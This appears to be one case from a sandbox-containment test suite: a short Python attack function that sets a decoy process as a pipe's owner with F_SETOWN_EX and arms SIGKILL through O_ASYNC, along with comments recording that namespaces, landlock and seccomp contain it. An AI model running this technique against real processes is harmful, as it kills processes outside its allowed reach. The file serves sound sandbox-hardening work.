# attack: names another process as a descriptor's owner by F_SETOWN_EX, whose target lies in memory
# full: contained
# reduced: contained
# stopped-by: namespaces, landlock, seccomp
import fcntl
import os
import signal
import struct
import time

F_SETSIG, F_SETOWN_EX, F_OWNER_PID = 10, 15, 1


def attack():
    reading, writing = os.pipe()
    fcntl.fcntl(reading, F_SETOWN_EX, struct.pack("<ii", F_OWNER_PID, DECOY))
    fcntl.fcntl(reading, F_SETSIG, int(signal.SIGKILL))
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writing, b"x")
    time.sleep(0.02)
    return "held: it was asked for, and whether it came can be seen outside"
